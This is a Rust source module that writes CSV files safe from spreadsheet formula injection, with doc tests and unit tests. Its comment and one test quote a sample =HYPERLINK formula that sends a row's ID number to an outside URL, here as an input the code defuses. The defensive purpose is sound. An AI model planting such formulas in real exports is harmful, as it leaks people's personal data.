//! Writing CSV files that spreadsheets open safely. Every CSV the app writes (the final
//! lists, the sample roster) goes through [`CsvOut`], so no cell reaches Excel or WPS as a
//! formula: `=HYPERLINK("http://…?"&D4, "…")` in a name would send the row's ID number
//! away with one click.
//!
//! **Invariant:** a cell starting with `=`, `+`, `-`, `@`, tab or carriage return is
//! written with an apostrophe in front ([`defuse_formula`], the OWASP rule), phones
//! (`+86…`) and negative numbers included; every other cell is written as it is.

use std::borrow::Cow;
use std::io::Write;

/// The characters a spreadsheet reads as the start of a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a CSV must hold it: with `'` in front when it starts like a formula, so
/// Excel and WPS show it as text instead of running it.
///
/// ```
/// use rollcall::tabular::defuse_formula;
/// assert_eq!(defuse_formula("=1+1"), "'=1+1");
/// assert_eq!(defuse_formula("+8613800000000"), "'+8613800000000");
/// assert_eq!(defuse_formula("2025-04-28"), "2025-04-28");
/// ```
pub fn defuse_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer (CRLF line ends, as Excel saves) whose every cell passes through
/// [`defuse_formula`]; records may differ in length (a title row above a header).
pub struct CsvOut<W: Write> {
    inner: csv::Writer<W>,
    record: csv::StringRecord,
}

impl<W: Write> CsvOut<W> {
    /// A writer onto `out`.
    pub fn new(out: W) -> CsvOut<W> {
        CsvOut {
            inner: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .flexible(true)
                .from_writer(out),
            record: csv::StringRecord::new(),
        }
    }

    /// Writes one record, reusing one buffer across records.
    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.record.clear();
        for cell in cells {
            self.record.push_field(&defuse_formula(cell.as_ref()));
        }
        self.inner.write_record(&self.record)
    }

    /// Writes what is buffered to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> Result<W, std::io::Error> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_starting_like_a_formula_get_an_apostrophe() {
        for cell in ["=1+1", "+86138", "-5", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(defuse_formula(cell), format!("'{cell}"));
        }
        for cell in ["", "张三", "2025-04-28", "0202501", "a=b", "'=1", " =1"] {
            assert_eq!(defuse_formula(cell), cell);
        }
    }

    #[test]
    fn every_record_is_defused_and_quoted() {
        let mut w = CsvOut::new(Vec::new());
        w.write_record(["标题"]).unwrap();
        w.write_record(["学号", "姓名"]).unwrap();
        w.write_record(["020", r#"=HYPERLINK("http://x/?"&D4,"a")"#])
            .unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(
            text,
            "标题\r\n学号,姓名\r\n020,\"'=HYPERLINK(\"\"http://x/?\"\"&D4,\"\"a\"\")\"\r\n"
        );
    }
}
